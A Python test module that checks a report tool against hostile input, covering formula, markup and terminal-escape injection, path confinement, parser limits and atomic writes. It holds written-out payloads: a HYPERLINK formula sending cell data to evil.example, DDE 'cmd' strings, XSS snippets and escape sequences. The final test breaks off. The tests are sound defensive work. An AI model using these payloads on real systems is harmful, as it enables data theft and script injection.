"""Hostile inputs and outputs never cost a report, a file or a secret (files.py, reporters/sanitize.py).

One test (or one parametrised test) per fault class: output injection, output paths, atomic
writes, what may be read, confinement of side files, parser limits and exit codes, YAML alias
bombs, waiver globs, byte-identical DOCX/XLSX. The hostile inputs live in tests/io_faults/ or are
built here. Plugin isolation (a rule that exits, prints, hangs or mutates the unit) is tested with
the engine's guard, not here.
"""

from __future__ import annotations

import csv
import datetime as dt
import errno
import html.parser
import io
import json
import os
import re
import signal
import subprocess
import sys
import time
import xml.etree.ElementTree as ET
import zipfile
from pathlib import Path

import docx
import openpyxl
import pytest
from conftest import POOR, SEED, load_fixture, make_unit, plugins, write_unit
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from schema_strategy import generated_units

from archcheck import files
from archcheck.audit.prepared import PreparedAudit, Settings
from archcheck.audit.unit_files import check_units
from archcheck.audit.catalog_files import CatalogOptions, check_catalogs
from archcheck.errors import InputError
from archcheck.loaders.document import read_document
from archcheck.reporters.sanitize import FORMULA_TRIGGERS
from archcheck.reporters.options import ReportOptions
from archcheck.session import emit as session_emit
from archcheck.schemas import unit_schema
from archcheck.scoring import load_profile
from archcheck.waivers import Glob, covers
from archcheck.model import Finding, Location, WaiverInfo

FAULTS = Path(__file__).parent / "io_faults"
ROOT = Path(__file__).resolve().parents[1]
NEVER = ("--fail-on", "never")
FORMATS = ("table", "json", "sarif", "junit", "markdown", "html", "docx", "ledger", "ranking")


def emit(report, plugin_set, fmt, output, lang, max_per_rule, inputs, echo=None):
    """The session's renderer, called as the reporters see it (the inputs are checked by Session.open)."""
    session_emit(report, plugin_set, fmt, ReportOptions(lang=lang, max_per_rule=max_per_rule, output=output), echo)


def env_with_faults(**extra: str) -> dict[str, str]:
    env = {**os.environ, "PYTHONPATH": os.pathsep.join([str(FAULTS), os.environ.get("PYTHONPATH", "")]), **extra}
    env.pop("ARCHCHECK_LANG", None)
    return env


def named_unit(tmp_path: Path, name: str, filename: str = "unit.json") -> Path:
    """The poor fixture (many findings) under another unit name: the name reaches every report."""
    unit = load_fixture(POOR)
    unit["unit"]["name"] = name
    path = tmp_path / filename
    path.write_text(json.dumps(unit, ensure_ascii=True), encoding="utf-8")  # \\ud800 stays an escape
    return path


# ---- output injection -----------------------------------------------------------------------------
FORMULA_NAME = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'


def test_xlsx_ledger_writes_formula_like_text_as_text_cells_title_included(cli, tmp_path):
    one, two = named_unit(tmp_path, FORMULA_NAME, "a.json"), named_unit(tmp_path, "@SUM(1+1)*cmd|' /C calc'!A0", "b.json")
    for units, out in (([one], tmp_path / "one.xlsx"), ([one, two], tmp_path / "two.xlsx")):
        assert cli("check", *units, "--format", "ledger", "-o", out, *NEVER).exit_code == 0
        sheet = openpyxl.load_workbook(out).active
        cells = [c for row in sheet.iter_rows() for c in row if c.value is not None]
        assert all(c.data_type != "f" for c in cells)
        if len(units) == 1:
            assert sheet["A1"].value.startswith(FORMULA_NAME) and sheet["A1"].data_type == "s"  # the title: text, as written
        else:
            names = {c.value for c in cells if c.column == 2}
            assert FORMULA_NAME in names and all(c.quotePrefix for c in cells if str(c.value).startswith(("=", "@")))


def test_csv_ledger_prefixes_every_formula_trigger(cli, tmp_path):
    units = [named_unit(tmp_path, f"{t}cmd|' /C calc'!A0", f"u{i}.json") for i, t in enumerate(FORMULA_TRIGGERS)]
    out = tmp_path / "ledger.csv"
    assert cli("check", *units, "--format", "ledger", "-o", out, *NEVER).exit_code == 0
    rows = list(csv.reader(io.StringIO(out.read_bytes().decode("utf-8-sig"), newline="")))
    unit_cells = {r[1] for r in rows[1:]}
    assert unit_cells == {f"'{t}cmd|' /C calc'!A0" for t in FORMULA_TRIGGERS}
    assert not any(cell.startswith(FORMULA_TRIGGERS) for r in rows for cell in r)


@pytest.mark.parametrize("fmt, suffix", [("docx", ".docx"), ("ledger", ".xlsx"), ("junit", ".xml"), ("html", ".html")])
def test_word_control_characters_do_not_fail_xml_formats(cli, tmp_path, fmt, suffix):
    """\\x0b is Word's manual line break; a cell pasted from Word must not cost the report (it did: exit 3)."""
    unit = named_unit(tmp_path, "明山\x0b镇\x0c档案室\x00\x1f")
    out = tmp_path / f"report{suffix}"
    result = cli("check", unit, "--format", fmt, "-o", out, *NEVER)
    assert result.exit_code == 0, result.stderr
    if fmt == "docx":
        text = "\n".join(p.text for p in docx.Document(out).paragraphs)
        assert "明山\n镇\n档案室" in text
    elif fmt == "ledger":
        assert openpyxl.load_workbook(out).active["A1"].value.startswith("明山\n镇\n档案室")
    elif fmt == "junit":
        assert ET.parse(out).getroot().find("testsuite").get("name") == "明山\n镇\n档案室"
    else:
        assert "\x0b" not in out.read_text(encoding="utf-8") and "\x00" not in out.read_text(encoding="utf-8")


@pytest.mark.parametrize("fmt", FORMATS)
def test_a_lone_surrogate_in_the_unit_fails_no_format(cli, tmp_path, fmt):
    """A JSON "\\ud800" escape is a valid Python str that UTF-8 cannot encode: it is replaced by U+FFFD on reading."""
    unit = named_unit(tmp_path, "明山\ud800镇")
    out = tmp_path / ("report.xlsx" if fmt == "ledger" else f"report.{fmt}")
    result = cli("check", unit, "--format", fmt, "-o", out, *NEVER)
    assert result.exit_code == 0, result.stderr
    data = out.read_bytes()
    if fmt not in ("docx", "ledger"):
        assert "明山\ufffd镇" in data.decode("utf-8")  # strict UTF-8: no surrogate escaped through
    if fmt == "json":
        assert json.loads(data)["units"][0]["name"] == "明山\ufffd镇"


MARKUP = ('<script>alert(1)</script>\n# 注入的标题\n- 注入的列表\n1. 第一项\n> 引用\n```\n'
          '[点我](javascript:alert(1)) ![x](data:text/html;base64,PHNjcmlwdD4=) <img src=x onerror=alert(1)> '
          '<javascript:alert(1)> | 表格 |')


def test_markdown_shows_markup_as_text(cli, tmp_path):
    unit = named_unit(tmp_path, MARKUP)
    text = cli("check", unit, "--format", "markdown", *NEVER).output
    assert "<" not in text  # no tag, no autolink: every < from the input is &lt;
    assert not re.search(r"(?<!\\)\]\(", text)  # no [text](url) link or image can form
    for line in text.splitlines():
        assert not line.startswith(("- 注入", "1. 第一", "> 引用", "```", "# 注入"))
    plain = cli("check", named_unit(tmp_path, "明山镇", "plain.json"), "--format", "markdown", *NEVER).output
    assert sum(line.startswith("#") for line in text.splitlines()) == sum(line.startswith("#") for line in plain.splitlines())


class _Tags(html.parser.HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, attrs))


HTML_TAGS = {"html", "head", "meta", "title", "style", "body", "article", "h1", "h2", "h3", "h4", "p", "table", "thead",
             "tbody", "tr", "th", "td", "figure", "svg", "g", "text", "rect", "figcaption", "footer", "hr", "section", "div",
             "span", "header", "main", "ol", "ul", "li", "strong", "br", "colgroup", "col", "caption", "small"}


def html_is_inert(page: str) -> bool:
    """Only the report's own tags, no event handler or script URL anywhere in an attribute."""
    parser = _Tags()
    parser.feed(page)
    for tag, attrs in parser.tags:
        if tag not in HTML_TAGS:
            return False
        for name, value in attrs:
            if name.startswith("on") or (value or "").strip().lower().startswith(("javascript:", "data:")):
                return False
    return True


def test_html_shows_markup_as_text(cli, tmp_path):
    unit = named_unit(tmp_path, MARKUP)
    page = cli("check", unit, "--format", "html", *NEVER).output
    assert html_is_inert(page) and "<script" not in page.lower()
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page  # shown, not dropped


ESCAPES = "\x1b[2J\x1b[31m红\x1b[0m\x1b]0;pwned\x07\x1b]8;;http://evil\x1b\\链接\x1b]8;;\x1b\\\x9b6n\r覆盖\u202e反向"


def test_terminal_table_carries_no_escape_sequence(cli, tmp_path):
    unit = named_unit(tmp_path, ESCAPES)
    for fmt in ("table", "ranking"):
        out = cli("check", unit, "--format", fmt, *NEVER).output
        assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e]", out)
        assert "红" in out and "链接" in out and "覆盖" in out


def test_error_messages_carry_no_escape_sequence(cli, tmp_path):
    unit = make_unit(unit={"name": "x", "kind": "\x1b]0;pwned\x07\x1b[2J机关"})
    result = cli("check", write_unit(tmp_path, unit))
    assert result.exit_code == 2 and "/unit/kind" in result.stderr
    assert "\x1b" not in result.stderr and "\x07" not in result.stderr


# ---- output paths: checked before the run ----------------------------------------------------------
def run_archcheck(*args: object, timeout: float = 120, **env: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "archcheck", *map(str, args)], capture_output=True, text=True,
                          timeout=timeout, env=env_with_faults(**env))


def test_output_onto_an_input_through_a_hard_link_is_refused(cli, tmp_path):
    unit = write_unit(tmp_path, load_fixture(POOR))
    link = tmp_path / "report.json"
    os.link(unit, link)
    before = unit.read_bytes()
    result = cli("check", unit, "--format", "json", "-o", link, "--lang", "en")
    assert result.exit_code == 2 and str(link) in result.stderr and "input file" in result.stderr
    assert unit.read_bytes() == before


@pytest.mark.parametrize("option", ["--baseline", "--report-config", "--config", "--waivers", "--profile"])
def test_output_onto_a_file_the_run_reads_is_refused(cli, tmp_path, option):
    unit = write_unit(tmp_path, load_fixture(POOR))
    content = {
        "--baseline": lambda p: cli("check", unit, "--write-baseline", p, *NEVER),
        "--report-config": lambda p: p.write_text("[ledger]\n", encoding="utf-8"),
        "--config": lambda p: p.write_text('lang = "zh"\n', encoding="utf-8"),
        "--waivers": lambda p: p.write_text("[[waivers]]\nrule = 'FUN'\nreason = '测试'\n", encoding="utf-8"),
        "--profile": lambda p: p.write_text((ROOT / "src/archcheck/profiles/default.toml").read_text(encoding="utf-8"), encoding="utf-8"),
    }
    read = tmp_path / ("read.toml" if option != "--baseline" else "read.json")
    content[option](read)
    before = read.read_bytes()
    link = tmp_path / "hard-link.out"
    os.link(read, link)
    for target in (read, link):
        result = cli("check", unit, option, read, "-o", target, "--format", "json", "--lang", "en")
        assert result.exit_code == 2, result.stderr
        assert "must not overwrite" in result.stderr and str(target) in result.stderr
    assert read.read_bytes() == before


def test_write_baseline_may_refresh_the_baseline_it_reads(cli, tmp_path):
    """The baseline is read before any rule runs and written atomically, so refreshing it in place is safe."""
    unit = write_unit(tmp_path, load_fixture(POOR))
    base = tmp_path / "baseline.json"
    assert cli("check", unit, "--write-baseline", base, *NEVER).exit_code == 0
    assert cli("check", unit, "--baseline", base, "--write-baseline", base, *NEVER).exit_code == 0
    assert json.loads(base.read_text(encoding="utf-8"))["findings"]
    result = cli("check", unit, "-o", tmp_path / "same.json", "--write-baseline", tmp_path / "same.json", "--lang", "en")
    assert result.exit_code == 2 and "same output file" in result.stderr


def test_output_folder_problems_are_reported_before_any_rule_runs(tmp_path):
    unit = write_unit(tmp_path, load_fixture(POOR))
    marker = tmp_path / "rule-ran"
    not_a_folder = tmp_path / "file.txt"
    not_a_folder.write_text("x", encoding="utf-8")
    # root may write anywhere a mode allows; /proc takes no new file even for root
    locked = Path("/proc") if os.geteuid() == 0 else tmp_path / "locked"
    if locked != Path("/proc"):
        locked.mkdir()
        locked.chmod(0o500)
    cases = [("-o", tmp_path / "missing" / "r.json", "does not exist"), ("-o", not_a_folder / "r.json", "does not exist"),
             ("--write-baseline", locked / "b.json", "cannot write a file"), ("-o", tmp_path, "is a directory")]
    for option, path, message in cases:
        result = run_archcheck("check", unit, "-p", "fx_marks_run", option, path, "--lang", "en", ARCHCHECK_TEST_MARKER=str(marker))
        assert result.returncode == 2, result.stderr
        assert str(path) in result.stderr and message in result.stderr and "Traceback" not in result.stderr
        assert not marker.exists()  # refused before the run: no rule ran


# ---- atomic writes ---------------------------------------------------------------------------------
KILL_AT_FSYNC = """
import os, signal, sys
os.fsync = lambda fd: os.kill(os.getpid(), signal.SIGKILL)  # the worst moment: the new report written, not yet renamed
from archcheck.cli import main
sys.argv = ["archcheck", *sys.argv[1:]]
main()
"""


@pytest.mark.parametrize("option", ["-o", "--write-baseline"])
def test_kill_9_while_writing_leaves_the_old_report(tmp_path, option):
    unit = write_unit(tmp_path, load_fixture(POOR))
    target = tmp_path / "old.json"
    target.write_text('{"old": "report"}', encoding="utf-8")
    args = [option, target, "--format", "json", *NEVER] if option == "-o" else [option, target, *NEVER]
    result = subprocess.run([sys.executable, "-c", KILL_AT_FSYNC, "check", unit, *map(str, args)],
                            capture_output=True, timeout=120, env=env_with_faults())
    assert result.returncode == -signal.SIGKILL
    assert target.read_text(encoding="utf-8") == '{"old": "report"}'


def test_a_full_disk_leaves_the_old_report_and_no_temporary_file(cli, tmp_path, monkeypatch):
    unit = write_unit(tmp_path, load_fixture(POOR))
    out = tmp_path / "reports"
    out.mkdir()
    target = out / "report.json"
    target.write_text("old", encoding="utf-8")
    real_write = os.write

    def full_disk(fd, data):
        if os.path.basename(os.readlink(f"/proc/self/fd/{fd}")).startswith(".report.json."):
            real_write(fd, bytes(data)[:100])  # a part reached the disk, then it was full
            raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))
        return real_write(fd, data)

    monkeypatch.setattr(files.os, "write", full_disk)
    result = cli("check", unit, "--format", "json", "-o", target, "--lang", "en", *NEVER)
    assert result.exit_code == 2 and "the disk is full" in result.stderr and str(target) in result.stderr
    assert target.read_text(encoding="utf-8") == "old"
    assert sorted(p.name for p in out.iterdir()) == ["report.json"]


def test_a_replaced_report_keeps_its_permissions_and_a_link_keeps_pointing(cli, tmp_path):
    unit = write_unit(tmp_path, load_fixture(POOR))
    real = tmp_path / "real.json"
    real.write_text("old", encoding="utf-8")
    real.chmod(0o640)
    link = tmp_path / "latest.json"
    link.symlink_to(real.name)
    assert cli("check", unit, "--format", "json", "-o", link, *NEVER).exit_code == 0
    assert link.is_symlink() and json.loads(real.read_text(encoding="utf-8"))["units"]
    assert real.stat().st_mode & 0o777 == 0o640


# ---- what may be read --------------------------------------------------------------------------------
def _fifo(tmp_path: Path, name: str) -> Path:
    path = tmp_path / name
    os.mkfifo(path)
    return path


@pytest.mark.parametrize("where", ["unit", "fifo-unit", "baseline", "waivers", "report-config", "config", "diff-old", "diff-new",
                                   "folder-baseline"])
def test_devices_pipes_and_folders_are_refused_before_reading(cli, tmp_path, where):
    """/dev/zero read until memory ran out; a FIFO waited for a writer forever."""
    unit = write_unit(tmp_path, load_fixture(POOR))
    report = tmp_path / "r.json"
    assert cli("check", unit, "--format", "json", "-o", report, *NEVER).exit_code == 0
    zero = Path("/dev/zero")
    args = {
        "unit": ("check", zero), "fifo-unit": ("check", _fifo(tmp_path, "u.json")),
        "baseline": ("check", unit, "--baseline", zero), "waivers": ("check", unit, "--waivers", _fifo(tmp_path, "w.toml")),
        "report-config": ("check", unit, "--report-config", zero), "config": ("check", unit, "--config", _fifo(tmp_path, "c.toml")),
        "diff-old": ("diff", zero, report), "diff-new": ("diff", report, _fifo(tmp_path, "n.json")),
        "folder-baseline": ("check", unit, "--config", tmp_path / "folder.toml"),  # the CLI options refuse folders already
    }[where]
    (tmp_path / "a-folder").mkdir()
    (tmp_path / "folder.toml").write_text('baseline = "a-folder"\n', encoding="utf-8")
    start = time.monotonic()
    result = cli(*args, "--lang", "en")
    assert result.exit_code == 2 and "not a regular file" in result.stderr, result.stderr
    assert time.monotonic() - start < 30


def test_size_cap_is_checked_before_reading(cli, tmp_path):
    big = tmp_path / "big.json"
    with open(big, "wb") as handle:  # sparse: 64 MiB + 1 byte cost no disk and no time
        handle.truncate(files.DOCUMENT_LIMIT + 1)
    result = cli("check", big, "--lang", "en")
    assert result.exit_code == 2 and "larger than the 64 MiB limit" in result.stderr


def test_climate_log_that_is_a_fifo_is_refused(cli, tmp_path):
    _fifo(tmp_path, "climate.csv")
    unit = write_unit(tmp_path, make_unit(climate_log={"csv": "climate.csv"}))
    result = cli("check", unit, "--lang", "en")
    assert result.exit_code == 2 and "climate.csv" in result.stderr and "not a regular file" in result.stderr


# ---- confinement of side files -----------------------------------------------------------------------
SECRET = "root:x:0:0:secret-line\n"


@pytest.fixture
def outside(tmp_path) -> Path:
    """A folder beside the unit's, holding a 'secret' the unit must not be able to read or quote."""
    folder = tmp_path / "elsewhere"
    folder.mkdir()
    (folder / "passwd").write_text(SECRET, encoding="utf-8")
    return folder


@pytest.mark.parametrize("named", ["../elsewhere/passwd", "ABSOLUTE", "link-to-passwd"])
def test_climate_log_outside_the_unit_folder_is_refused_and_never_quoted(cli, tmp_path, outside, named):
    units = tmp_path / "units"
    units.mkdir()
    (units / "link-to-passwd").symlink_to(outside / "passwd")
    path = str(outside / "passwd") if named == "ABSOLUTE" else named
    unit = write_unit(units, make_unit(climate_log={"csv": path}))
    for fmt in ("table", "json"):
        result = cli("check", unit, "--format", fmt, "--lang", "en")
        assert result.exit_code == 2 and "outside its own folder" in result.stderr and "--allow-outside" in result.stderr
        assert "secret-line" not in result.output + result.stderr
    allowed = cli("check", unit, "--allow-outside", outside, "--lang", "en")
    assert allowed.exit_code == 2 and "header needs an 'at' column" in allowed.stderr  # read now, as asked ...
    assert "secret-line" not in allowed.output + allowed.stderr  # ... but a file outside the folder is never quoted


def test_climate_log_inside_the_unit_folder_is_read_and_quoted(cli, tmp_path):
    (tmp_path / "logs").mkdir()
    (tmp_path / "logs" / "climate.csv").write_text("when,what\n1,2\n", encoding="utf-8")
    unit = write_unit(tmp_path, make_unit(climate_log={"csv": "logs/climate.csv"}))
    result = cli("check", unit, "--lang", "en")
    assert result.exit_code == 2 and "found: when,what" in result.stderr


@pytest.mark.parametrize("section", [{"folder": "../elsewhere", "files": [{"path": "passwd"}]},
                                     {"folder": "efiles", "manifest": "../elsewhere/passwd"}])
def test_efiles_plugin_is_confined_to_the_unit_folder(cli, tmp_path, outside, section):
    units = tmp_path / "units"
    (units / "efiles").mkdir(parents=True)
    unit = write_unit(units, make_unit(extensions={"efiles": section}))
    result = cli("check", unit, "--format", "json", "--lang", "en")
    assert result.exit_code == 2 and "outside its own folder" in result.stderr
    assert "secret-line" not in result.output and "passwd" not in result.stdout
    allowed = cli("check", unit, "--format", "json", "--allow-outside", outside, *NEVER)
    assert allowed.exit_code == 0 and "secret-line" not in allowed.output


# ---- parser limits: input errors, exit 2 ---------------------------------------------------------------
HUGE = "1" * 5000


@pytest.mark.parametrize("where", ["unit-json", "unit-yaml", "param", "baseline", "diff", "config", "waivers-yaml"])
def test_numbers_over_4300_digits_are_input_errors(cli, tmp_path, where):
    unit = write_unit(tmp_path, load_fixture(POOR))
    bad_json = tmp_path / "huge.json"
    bad_json.write_text('{"format": "archcheck-baseline/1", "units": [], "findings": [' + HUGE + "]}", encoding="utf-8")
    yaml_unit = tmp_path / "huge.yaml"
    yaml_unit.write_text(f'schema_version: "1"\nas_of: "2025-06-30"\nunit: {{name: x}}\nbig: {HUGE}\n', encoding="utf-8")
    config = tmp_path / "archcheck.toml"
    waivers = tmp_path / "w.yaml"
    args = {
        "unit-json": ("check", bad_json), "unit-yaml": ("check", yaml_unit),
        "param": ("check", unit, "--param", f"FUN001.x={HUGE}"), "baseline": ("check", unit, "--baseline", bad_json),
        "diff": ("diff", bad_json, bad_json), "config": ("check", unit, "--config", config),
        "waivers-yaml": ("check", unit, "--waivers", waivers),
    }[where]
    config.write_text(f"fail_under = {HUGE}\n", encoding="utf-8")
    waivers.write_text(f"waivers:\n  - {{rule: FUN, reason: {HUGE}0, expires: {HUGE}}}\n", encoding="utf-8")
    result = cli(*args, "--lang", "en")
    assert result.exit_code == 2, result.stderr
    assert "4,300 digits" in result.stderr and "Traceback" not in result.stderr


@pytest.mark.parametrize("where", ["config", "report-config", "baseline", "diff", "unit"])
def test_5000_deep_nesting_is_an_input_error(cli, tmp_path, where):
    unit = write_unit(tmp_path, load_fixture(POOR))
    deep_toml = tmp_path / "deep.toml"
    deep_toml.write_text("a = " + "[" * 5000 + "]" * 5000 + "\n", encoding="utf-8")
    deep_json = tmp_path / "deep.json"
    deep_json.write_text("[" * 5000 + "]" * 5000, encoding="utf-8")
    args = {"config": ("check", unit, "--config", deep_toml), "report-config": ("check", unit, "--report-config", deep_toml),
            "baseline": ("check", unit, "--baseline", deep_json), "diff": ("diff", deep_json, deep_json),
            "unit": ("check", deep_json)}[where]
    result = cli(*args, "--lang", "en")
    assert result.exit_code == 2 and "too deep" in result.stderr, result.stderr


@pytest.mark.parametrize("damage, where", [
    (lambda r: r["units"][0].__setitem__("findings", [None, 1]), "/units/0/findings/0"),
    (lambda r: r["units"][0]["findings"][0].__setitem__("location", "here"), "/units/0/findings/0/location"),
    (lambda r: r["units"][0]["score"].__setitem__("total", "九十"), "/units/0/score/total"),
    (lambda r: r["units"][0]["score"]["areas"]["FUN"].__setitem__("score", None), "/units/0/score/areas/FUN/score"),
    (lambda r: r["units"][0]["findings"][0].__setitem__("evidence", json.loads("[" * 80 + "]" * 80)), "/units/0/findings/0/evidence"),
])
def test_a_damaged_diff_input_names_its_json_path(cli, tmp_path, damage, where):
    good = tmp_path / "good.json"
    assert cli("check", POOR, "--format", "json", "-o", good, *NEVER).exit_code == 0
    report = json.loads(good.read_text(encoding="utf-8"))
    damage(report)
    bad = tmp_path / "bad.json"
    bad.write_text(json.dumps(report, ensure_ascii=False), encoding="utf-8")
    for args in ((good, bad), (bad, good)):
        result = cli("diff", *args, "--lang", "en")
        assert result.exit_code == 2, result.stderr
        assert f"{bad}:{where}" in result.stderr and "Traceback" not in result.stderr


def test_ctrl_c_exits_130_with_a_short_message_and_keeps_the_old_report(tmp_path):
    unit = write_unit(tmp_path, load_fixture(POOR))
    marker, out = tmp_path / "rule-started", tmp_path / "report.json"
    out.write_text("old", encoding="utf-8")
    process = subprocess.Popen(
        [sys.executable, "-m", "archcheck", "check", str(unit), "-p", "fx_marks_run", "--rule-timeout", "0", "-o", str(out),
         "--format", "json", "--lang", "en"],
        stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
        env=env_with_faults(ARCHCHECK_TEST_MARKER=str(marker), ARCHCHECK_TEST_WAIT="60"))
    deadline = time.monotonic() + 60
    while not marker.exists() and time.monotonic() < deadline and process.poll() is None:
        time.sleep(0.05)
    process.send_signal(signal.SIGINT)
    _, stderr = process.communicate(timeout=60)
    assert process.returncode == 130
    assert "interrupted" in stderr and "Traceback" not in stderr and len(stderr.strip().splitlines()) == 1
    assert out.read_text(encoding="utf-8") == "old"


# ---- YAML alias bombs --------------------------------------------------------------------------------
def test_billion_laughs_fails_fast(cli):
    start = time.monotonic()
    result = cli("check", FAULTS / "billion-laughs.yaml", "--lang", "en")
    assert result.exit_code == 2 and "alias bomb" in result.stderr and "billion-laughs.yaml" in result.stderr
    assert time.monotonic() - start < 10  # it ran for minutes


def test_recursive_alias_is_an_input_error(cli):
    result = cli("check", FAULTS / "recursive-alias.yaml", "--lang", "en")
    assert result.exit_code == 2 and "refers to itself" in result.stderr and "recursive-alias.yaml:3:" in result.stderr


def test_ordinary_anchors_and_merge_keys_still_work(tmp_path):
    path = tmp_path / "u.yaml"
    path.write_text("defaults: &d {kind: store, area_m2: 40}\nrooms:\n  - <<: *d\n    id: a\n  - <<: *d\n    id: b\n", encoding="utf-8")
    assert read_document(path)["rooms"] == [{"kind": "store", "area_m2": 40, "id": "a"}, {"kind": "store", "area_m2": 40, "id": "b"}]


# ---- waiver globs --------------------------------------------------------------------------------------
def test_a_waiver_location_of_20_stars_is_matched_at_once():
    finding = Finding("FUN001", None, Location(pointer="/" + "a" * 40 + "/b"), {})  # type: ignore[arg-type]
    for pattern in ("*" * 20 + "x", "/*" * 20 + "x", "/" + "*a" * 20 + "c", "**/" * 20 + "zz"):
        start = time.monotonic()
        assert not covers(WaiverInfo(rule="FUN", reason="r", location=pattern), "FUN001", finding)
        assert time.monotonic() - start < 0.5


def _regex_glob(pattern: str) -> re.Pattern[str]:
    """The former implementation: right, but exponential on many stars."""
    parts = re.split(r"(\*\*|\*|\?)", pattern)
    return re.compile("".join({"**": ".*", "*": "[^/]*", "?": "[^/]"}.get(p, re.escape(p)) for p in parts))


@given(st.text("ab/*?.", max_size=7), st.text("ab/.", max_size=9))
def test_glob_matches_what_the_regex_did(pattern, text):
    assert Glob(pattern).fullmatch(text) == bool(_regex_glob(pattern).fullmatch(text))


# ---- determinism ---------------------------------------------------------------------------------------
def _render(fmt: str, output: Path, clock: float, monkeypatch) -> bytes:
    report = check_units([POOR], PreparedAudit(plugins(), Settings(profile=load_profile("default"))))
    monkeypatch.setattr(time, "time", lambda: clock)
    monkeypatch.setattr(time, "localtime", lambda secs=None: time.gmtime(clock if secs is None else secs))
    emit(report, plugins(), fmt, output, "zh", None, [POOR])
    monkeypatch.undo()
    return output.read_bytes()


@pytest.mark.parametrize("fmt, suffix", [("docx", ".docx"), ("ledger", ".xlsx")])
def test_docx_and_xlsx_are_byte_identical_whatever_the_clock(tmp_path, monkeypatch, fmt, suffix):
    first = _render(fmt, tmp_path / f"a{suffix}", 1_700_000_000.0, monkeypatch)
    second = _render(fmt, tmp_path / f"b{suffix}", 1_800_000_000.0, monkeypatch)
    assert first == second
    as_of = load_fixture(POOR)["as_of"]
    with zipfile.ZipFile(io.BytesIO(first)) as package:
        assert {i.date_time for i in package.infolist()} == {tuple(dt.date.fromisoformat(as_of).timetuple()[:3]) + (0, 0, 0)}
        core = package.read("docProps/core.xml").decode("utf-8")
    assert re.findall(r"<dcterms:(?:created|modified)[^>]*>([^<]*)<", core) == [f"{as_of}T00:00:00Z"] * 2


# ---- arbitrary text anywhere never costs a report ------------------------------------------------------
PIECES = ['=HYPERLINK("http://x","y")', "=1+1", "+1", "-2", "@SUM(A1)", "\t=x", "\r=x", "<script>alert(1)</script>",
          "<img src=x onerror=alert(1)>", "[点我](javascript:alert(1))", "![x](data:text/html,x)", "\n# 注入\n", "\n- 列表",
          "\n1. 一", "```", "~~~", "\x1b[31m", "\x1b]0;t\x07", "\x1b[2J", "\x9b31m", "\x1b", "\x0b", "\x0c", "\x00", "\x7f",
          "\x85", "\ud800", "\udfff", "\ud83d", "\ufffe", "\uffff", "\u202e", "&lt;", "|", "\\", "档案室", "'"]
HOSTILE = st.lists(st.one_of(st.sampled_from(PIECES), st.text(max_size=3),
                             st.characters(min_codepoint=0, max_codepoint=0x9f).map(str),
                             st.characters(min_codepoint=0xD800, max_codepoint=0xDFFF).map(str)),
                   min_size=1, max_size=6).map("".join)
_VALIDATOR = None


def _validator():
    global _VALIDATOR
    if _VALIDATOR is None:
        from jsonschema import Draft202012Validator, FormatChecker

        _VALIDATOR = Draft202012Validator(unit_schema(plugins().collect("archcheck_unit_schema")), format_checker=FormatChecker())
    return _VALIDATOR


def _string_leaves(node, path=()):
    if isinstance(node, str):
        yield path
    elif isinstance(node, dict):
        for key, value in node.items():
            yield from _string_leaves(value, (*path, key))
    elif isinstance(node, list):
        for index, value in enumerate(node):
            yield from _string_leaves(value, (*path, index))


def _set(node, path, value):
    for key in path[:-1]:
        node = node[key]
    node[path[-1]] = value


@st.composite
def hostile_units(draw):
    """A valid unit (schema_strategy) whose free-text strings hold hostile text, the unit name always."""
    unit = draw(generated_units())
    unit["unit"] = {**unit.get("unit", {}), "name": draw(HOSTILE)}
    original = {}
    for path in list(_string_leaves(unit)):
        if path != ("unit", "name") and path[:1] not in (("as_of",), ("schema_version",)) and draw(st.booleans()):
            original[path] = _get(unit, path)
            _set(unit, path, draw(HOSTILE))
    for _ in range(6):  # put back what the schema does not allow (enums, patterns, dates)
        errors = list(_validator().iter_errors(unit))
        if not errors:
            return unit
        for error in errors:
            where = tuple(error.absolute_path)
            for path in [p for p in original if p[:len(where)] == where]:
                _set(unit, path, original.pop(path))
        if any(tuple(e.absolute_path)[:2] == ("unit", "name") for e in errors):
            unit["unit"]["name"] = "x" + unit["unit"]["name"].strip() + "x"
    return unit if not list(_validator().iter_errors(unit)) else make_unit(unit={"name": "x" + draw(HOSTILE)})


def _get(node, path):
    for key in path:
        node = node[key]
    return node


def assert_every_format_is_safe(report, tmp: Path) -> None:
    """Every built-in format renders (no exception: the CLI's exit 3), and none carries live content."""
    shown: list[str] = []
    for fmt in FORMATS:
        out = tmp / ("report.xlsx" if fmt == "ledger" else f"report.{fmt}")
        emit(report, plugins(), fmt, out, "zh", None, [], echo=shown.append)
        data = out.read_bytes()
        if fmt == "docx":
            docx.Document(io.BytesIO(data))
        elif fmt == "ledger":
            book = openpyxl.load_workbook(io.BytesIO(data))
            assert all(c.data_type != "f" for row in book.active.iter_rows() for c in row)
        else:
            text = data.decode("utf-8")  # strict: no surrogate got through
            if fmt in ("json", "sarif"):
                json.loads(text)
            elif fmt == "junit":
                ET.fromstring(data)
            elif fmt == "html":
                assert html_is_inert(text) and "<script" not in text.lower()
            elif fmt == "markdown":
                assert "<" not in text and not re.search(r"(?<!\\)\]\(", text)
            elif fmt in ("table", "ranking"):
                assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f]", text)
    csv_out = tmp / "ledger.csv"
    emit(report, plugins(), "ledger", csv_out, "zh", None, [])
    rows = list(csv.reader(io.StringIO(csv_out.read_bytes().decode("utf-8-sig"), newline="")))
    assert not any(cell.startswith(FORMULA_TRIGGERS) for row in rows for cell in row)
    emit(report, plugins(), "table", None, "en", None, [], echo=shown.append)
    assert not any(re.search("[\x1b\x9b]", s) for s in shown)


#: every example renders all nine formats (DOCX and XLSX ≈ 0.5 s of it): few examples, each full of hostile pieces
SLOW = settings(max_examples=6, deadline=None, suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large,
                                                                       HealthCheck.function_scoped_fixture])


@SLOW
@given(unit=hostile_units())
def test_arbitrary_text_in_any_unit_string_never_costs_a_report(tmp_path_factory, unit):
    tmp = tmp_path_factory.mktemp("hostile-unit")
    path = tmp / "unit.json"
    path.write_text(json.dumps(unit, ensure_ascii=True), encoding="utf-8")
